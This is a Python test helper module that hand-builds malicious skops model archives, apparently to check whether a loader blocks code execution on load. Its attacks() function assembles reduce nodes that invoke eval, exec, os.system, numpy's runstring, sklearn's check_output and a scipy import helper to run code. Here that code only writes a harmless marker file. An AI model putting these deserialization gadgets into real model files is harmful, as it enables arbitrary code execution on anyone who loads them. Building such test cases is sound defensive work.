"""Hand-built skops archives, written as an attacker would: JSON nodes in a zip."""

from __future__ import annotations

import io
import json
import sys
import zipfile
from typing import Any

PROTOCOL = 2


def text(value: Any) -> dict[str, Any]:
    """A JSON leaf (skops' ``JsonNode``)."""
    return {
        "__class__": type(value).__name__,
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": json.dumps(value),
        "is_json": True,
    }


def listing(*items: dict[str, Any]) -> dict[str, Any]:
    return {
        "__class__": "list",
        "__module__": "builtins",
        "__loader__": "ListNode",
        "content": list(items),
    }


def tupled(*items: dict[str, Any]) -> dict[str, Any]:
    return {
        "__class__": "tuple",
        "__module__": "builtins",
        "__loader__": "TupleNode",
        "content": list(items),
    }


def empty_dict() -> dict[str, Any]:
    return {
        "__class__": "dict",
        "__module__": "builtins",
        "__loader__": "DictNode",
        "content": {},
        "key_types": listing(),
    }


def call(module: str, name: str, *args: dict[str, Any]) -> dict[str, Any]:
    """A reduce node: on load skops calls ``module.name(*args)``."""
    return {
        "__class__": name,
        "__module__": module,
        "__loader__": "ConstructorFromReduceNode",
        "content": tupled(*args),
    }


def function(module: str, name: str) -> dict[str, Any]:
    """A function reference (skops' ``FunctionNode``)."""
    return {"__class__": name, "__module__": module, "__loader__": "FunctionNode"}


def archive(root: dict[str, Any], extra: dict[str, bytes] | None = None) -> bytes:
    """A skops zip whose ``schema.json`` is ``root``."""
    schema = {**root, "protocol": PROTOCOL, "_skops_version": "0.16.0"}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as target:
        target.writestr("schema.json", json.dumps(schema))
        for name, data in (extra or {}).items():
            target.writestr(name, data)
    return buffer.getvalue()


def attacks(marker: str) -> dict[str, dict[str, Any]]:
    """Reduce nodes that each create the file ``marker`` when called, by name of the callee."""
    code = f"open({marker!r}, 'w').write('ran')"
    return {
        "numpy.testing._private.utils.runstring": call(
            "numpy.testing._private.utils", "runstring", text(code), empty_dict()
        ),
        "sklearn.utils._testing.check_output": call(
            "sklearn.utils._testing",
            "check_output",
            listing(text(sys.executable), text("-c"), text(code)),
        ),
        "scipy._lib.deprecation.import_module": call(
            "scipy._lib.deprecation", "import_module", text("conveyor_payload_module")
        ),
        "builtins.eval": call("builtins", "eval", text(code)),
        "builtins.exec": call("builtins", "exec", text(code)),
        "os.system": call("os", "system", text(f'{sys.executable} -c "{code}"')),
    }


PAYLOAD_MODULE = "conveyor_payload_module"


def payload_source(marker: str) -> str:
    """A module that creates ``marker`` when imported."""
    return f"open({marker!r}, 'w').write('imported')\n"
